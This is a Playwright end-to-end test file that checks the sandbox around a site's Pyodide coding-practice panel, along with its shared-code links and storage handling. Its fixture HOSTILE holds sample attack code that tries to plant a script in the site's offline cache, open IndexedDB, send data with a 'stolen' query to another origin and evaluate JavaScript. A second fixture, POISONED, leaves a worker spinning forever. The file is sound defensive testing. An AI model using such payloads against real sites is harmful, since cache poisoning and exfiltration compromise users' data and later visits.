"""Practice code is untrusted: it runs in an opaque-origin worker, and nothing a user saved is lost to it.

A hostile solution tries to rewrite the site's offline cache, open IndexedDB, reach another loopback
origin (fetch, XMLHttpRequest, WebSocket) and evaluate JavaScript; every attempt must be refused, the
other origin must receive nothing, and a later visit must run only the site's own files. Code from a
link lives in the fragment, is shown but never run or stored until edited, and a link that cannot be
read says so. Waits are on the panel's ``data-state`` and texts, never on time.
"""

from __future__ import annotations

import base64
import http.server
import random
import re
import threading
import urllib.request
import zlib
from collections.abc import Callable, Iterator

import pytest
from app_page import PYTHON_TIMEOUT_MS, AppPage
from conftest import BrowserProblems
from playwright.sync_api import expect
from practice_solutions import RIGHT
from test_e2e_practice import BOARDS, STORAGE_KEY, Practice

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

MARK = "PLANTED-BY-PRACTICE-CODE"
# A right solution under another name, appended to the hostile ones (after .format: it holds braces).
RIGHT_ANSWER = "\n" + RIGHT["flat-function"].replace("def snakesAndLadders(board):", "def right_answer(board):")

# Each attempt appends "<name>: refused (...)" or "<name>: DONE"; once all are in, the solution
# prints them and answers wrongly, so the failing board shows them (the async ones have settled by then).
HOSTILE = """
import js
from pyodide.ffi import create_proxy
from pyodide.code import run_js

OTHER = "{other}"
SITE = "{site}"
MARK = "{mark}"
OUT = []

def settle(name, promise):
    ok = create_proxy(lambda value: OUT.append(f"{{name}}: DONE"))
    bad = create_proxy(lambda error: OUT.append(f"{{name}}: refused ({{error}})"[:160]))
    promise.then(ok, bad)

def attempt(name, make, is_promise=True):
    try:
        result = make()
    except BaseException as error:
        OUT.append(f"{{name}}: refused ({{type(error).__name__}}: {{error}})"[:160])
        return
    if is_promise:
        settle(name, result)
    else:
        OUT.append(f"{{name}}: DONE")

def plant(cache):
    return cache.put(js.Request.new(SITE + "main.mjs"), js.Response.new("globalThis.pwned = '" + MARK + "';"))

def evented(make, ok_event, error_event="onerror"):
    # A promise for an API that reports by events (IndexedDB, XMLHttpRequest, WebSocket).
    def executor(resolve, reject):
        target = make()
        setattr(target, ok_event, resolve)
        setattr(target, error_event, reject)
    return lambda: js.Promise.new(create_proxy(executor))

def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", OTHER + "xhr")
    request.send()
    return request

attempt("caches", lambda: js.caches.open("site-cache").then(create_proxy(plant)))
attempt("cache keys", lambda: js.caches.keys())
attempt("indexedDB", evented(lambda: js.indexedDB.open("planted-db"), "onsuccess"))
attempt("fetch other origin", lambda: js.fetch(OTHER + "fetch?stolen=boards"))
attempt("fetch other origin, no-cors", lambda: js.fetch(OTHER + "no-cors", js.Object.fromEntries([["mode", "no-cors"]])))
attempt("XMLHttpRequest", evented(xhr, "onload"))
attempt("WebSocket", evented(lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "socket"), "onopen"))
attempt("eval", lambda: run_js("1 + 1"), is_promise=False)
attempt("localStorage", lambda: js.localStorage.setItem("planted", MARK), is_promise=False)
EXPECTED = 9

def snakesAndLadders(board):
    if len(OUT) >= EXPECTED:
        print("\\n".join(sorted(OUT)))
        return -99
    return right_answer(board)
"""

# Reads every cache entry of the site's origin, and the names of its IndexedDB databases.
SITE_STORAGE = """
async (mark) => {
  const planted = [];
  const entries = {};
  for (const key of await caches.keys()) {
    const cache = await caches.open(key);
    for (const request of await cache.keys()) {
      const text = await (await cache.match(request)).text();
      if (text.includes(mark)) planted.push(request.url);
      if (request.url.endsWith("/main.mjs")) entries[key] = text.length;
    }
  }
  const databases = (await indexedDB.databases()).map((db) => db.name);
  return { keys: (await caches.keys()).sort(), planted, mainSizes: entries, databases, pwned: globalThis.pwned ?? null };
}
"""


class Recorder(http.server.BaseHTTPRequestHandler):
    """Another loopback origin that records every request (and answers all origins)."""

    hits: list[str]

    def do_GET(self) -> None:
        self.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def other_origin() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (Recorder,), {"hits": hits})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    # localhost, not 127.0.0.1: a different host from the site's, as another site would be.
    yield f"http://localhost:{server.server_address[1]}/", hits
    server.shutdown()
    server.server_close()


def test_hostile_practice_code_touches_nothing_of_the_site(
    open_app: Callable[..., AppPage], other_origin: tuple[str, list[str]], problems: BrowserProblems
) -> None:
    other, hits = other_origin
    urllib.request.urlopen(other + "control").read()  # the other origin is up and reachable
    assert hits == ["/control"]
    hits.clear()
    problems.allow(
        r"Content Security Policy|Refused to connect|WebSocket connection|request failed: GET http://localhost:\d+/\S*: csp$"
    )
    app = open_app()
    app.wait_ready()
    expect(app.page.locator("html")).to_have_attribute("data-offline", "ready", timeout=PYTHON_TIMEOUT_MS)
    before = app.page.evaluate(SITE_STORAGE, MARK)
    assert before["keys"] and before["mainSizes"], before  # the site's offline cache holds main.mjs

    practice = Practice(app).open()
    practice.write(HOSTILE.format(other=other, site=app.base_url, mark=MARK).lstrip() + RIGHT_ANSWER)
    practice.run()
    practice.wait_done("failed")
    # The output: what the code printed while it loaded (Pyodide's traceback of the IndexedDB executor's
    # SecurityError, raised inside a JavaScript callback), then the nine attempts, each refused.
    text = practice.output.text_content() or ""
    assert "DONE" not in text, text
    attempts = text.splitlines()[-9:]
    assert all(": refused (" in line for line in attempts), text
    assert len({line.split(": refused (")[0] for line in attempts}) == 9, text

    after = app.page.evaluate(SITE_STORAGE, MARK)
    assert after == before
    assert after["planted"] == [] and "planted-db" not in after["databases"]
    assert app.page.evaluate("localStorage.getItem('planted')") is None

    # A later visit runs the site's own files from its offline cache, and nothing planted.
    app.reload()
    app.wait_ready()
    assert app.page.evaluate(SITE_STORAGE, MARK) == before
    assert hits == []


def _link(source: str, *, deflated: bool = True) -> str:
    data = source.encode()
    if deflated:
        packer = zlib.compressobj(wbits=-15)
        data = packer.compress(data) + packer.flush()
    encoded = base64.urlsafe_b64encode(data).decode().rstrip("=")
    return f"#n=6&{'codez' if deflated else 'code'}={encoded}"


def test_code_from_a_link_is_never_stored_until_edited(open_app: Callable[..., AppPage]) -> None:
    app = open_app()
    practice = Practice(app).open()
    own = "def snakesAndLadders(board):\n    return -1  # mine\n"
    practice.write(own)
    linked = "def snakesAndLadders(board):\n    return 4  # from a link\n"
    app.goto(_link(linked))
    practice = Practice(app)
    expect(practice.status).to_contain_text("This code came from a link. It has not been run")
    expect(practice.editor).to_contain_text("from a link")
    assert "codez=" not in app.page.url and "n=6" in app.page.url
    practice.run()
    practice.wait_done("failed")
    assert practice.stored() == own  # running it did not store it over the user's own code
    practice.editor.click()
    app.page.keyboard.press("Control+End")
    app.page.keyboard.insert_text("\n# edited")
    stored = practice.stored() or ""
    assert "# from a link" in stored and stored.endswith("# edited")  # once edited, it is the user's


@pytest.mark.parametrize(
    ("fragment", "reason"),
    [
        ("#codez=%%%", "it holds characters that base64url does not use"),
        ("#codez=AAAA", "it is not valid compressed data"),
        ("#code=_w", "it is not UTF-8 text"),
        ("#code=", "it is empty"),
    ],
    ids=["not-base64url", "not-deflate", "not-utf8", "empty"],
)
def test_a_link_whose_code_cannot_be_read_says_so(open_app: Callable[..., AppPage], fragment: str, reason: str) -> None:
    app = open_app()
    practice = Practice(app).open()
    own = "def snakesAndLadders(board):\n    return -1  # mine\n"
    practice.write(own)
    app.goto(fragment)
    practice = Practice(app)
    expect(practice.status).to_have_text(
        f"The code in this link could not be read: {reason}. Your own code is shown instead."
    )
    expect(practice.panel).to_have_attribute("data-state", "error")
    expect(practice.editor).to_contain_text("# mine")
    assert practice.stored() == own


def test_copy_link_with_code_uses_the_fragment_and_refuses_long_links(open_app: Callable[..., AppPage]) -> None:
    app = open_app()
    practice = Practice(app).open()
    source = "def snakesAndLadders(board):\n    return len(board)  # shared\n"
    practice.write(source)
    practice.panel.get_by_role("button", name="Copy link with code").click()
    link_box = practice.panel.locator('[data-practice="share-code-link"]')
    expect(link_box).to_contain_text("#n=6&")
    link = link_box.text_content() or ""
    assert "?" not in link and "codez=" in link.split("#", 1)[1]

    friend = open_app(navigate=False)
    friend.open_url(link)
    friend_practice = Practice(friend)
    expect(friend_practice.editor).to_contain_text("# shared")
    assert friend_practice.stored() is None

    # Random text barely compresses: 8,000 characters of it make a link over the limit.
    noise = base64.b64encode(random.Random(0).randbytes(6000)).decode()
    practice.write(f"# {noise}\n")
    practice.panel.get_by_role("button", name="Copy link with code").click()
    expect(link_box).to_have_text(re.compile(r"^A link with this code would be [\d,]+ characters long, over the 8,000"))


STORAGE_FULL = f"""
(() => {{
  const setItem = Storage.prototype.setItem;
  Storage.prototype.setItem = function (key, value) {{
    if (window.__storageFull && key === {STORAGE_KEY!r}) throw new DOMException("The quota has been exceeded.", "QuotaExceededError");
    return setItem.call(this, key, value);
  }};
}})();
"""


def test_practice_edits_that_cannot_be_saved_say_so(open_app: Callable[..., AppPage]) -> None:
    app = open_app(navigate=False, warm=True)
    app.page.add_init_script(STORAGE_FULL)
    app.goto()
    practice = Practice(app).open()
    practice.write("def snakesAndLadders(board):\n    return 1\n")
    note = practice.panel.locator('[data-practice="save-note"]')
    expect(note).to_be_hidden()
    app.page.evaluate("window.__storageFull = true")
    practice.editor.click()
    app.page.keyboard.insert_text("# more")
    expect(note).to_have_text(
        "Your code is not saved: your browser's storage for this page is full. "
        "It stays in this editor while the page is open; copy it somewhere safe."
    )
    app.page.evaluate("window.__storageFull = false")
    app.page.keyboard.insert_text("!")
    expect(note).to_be_hidden()


# Passes every board, then leaves its worker spinning forever after the last one.
POISONED = """
import js
from pyodide.ffi import create_proxy
calls = 0

def spin():
    while True:
        pass

def snakesAndLadders(board):
    global calls
    calls += 1
    if calls == {boards}:
        js.setTimeout(create_proxy(spin), 0)
    return right_answer(board)
"""


def test_a_busy_worker_never_blocks_the_next_run_and_a_run_can_be_cancelled(app: AppPage) -> None:
    practice = Practice(app).open()
    practice.write(POISONED.format(boards=BOARDS).lstrip() + RIGHT_ANSWER)
    practice.run()
    practice.wait_done("passed")
    practice.run()  # the last run's worker spins; this one gets a fresh worker
    practice.wait_done("passed")
    expect(practice.status).to_have_text(f"All {BOARDS} boards passed.")

    practice.write("def snakesAndLadders(board):\n    while True:\n        pass\n")
    practice.run()
    expect(practice.status).to_have_text("Running board 1 of 40…", timeout=PYTHON_TIMEOUT_MS)
    practice.panel.get_by_role("button", name="Cancel").click()
    expect(practice.status).to_have_text("Cancelled on board 1, after 0 passed: your code was stopped.")
    expect(practice.panel).to_have_attribute("data-state", "idle")
    expect(practice.panel.get_by_role("button", name="Cancel")).to_be_hidden()
    expect(practice.panel.get_by_role("button", name="Run tests")).to_be_enabled()


@pytest.mark.parametrize(
    ("body", "answer", "error"),
    [
        ("return 10 ** 5000", "an int with 5,001 digits", ""),
        ("raise KeyboardInterrupt", "an exception", "Line 2: KeyboardInterrupt"),
        ("class Stop(BaseException):\n        pass\n    raise Stop('no')", "an exception", "Line 4: Stop: no"),
    ],
    ids=["huge-int", "keyboard-interrupt", "base-exception"],
)
def test_any_value_or_exception_fails_its_board_with_a_plain_reason(
    app: AppPage, body: str, answer: str, error: str
) -> None:
    practice = Practice(app).open()
    practice.write(f"def snakesAndLadders(board):\n    {body}\n")
    practice.run()
    practice.wait_done("failed")
    expect(practice.status).to_have_text(f"0 of {BOARDS} boards passed.")
    expect(practice.failure).to_contain_text(f", your answer: {answer}.")
    expect(practice.failure.locator(".practice-error")).to_have_text(error)
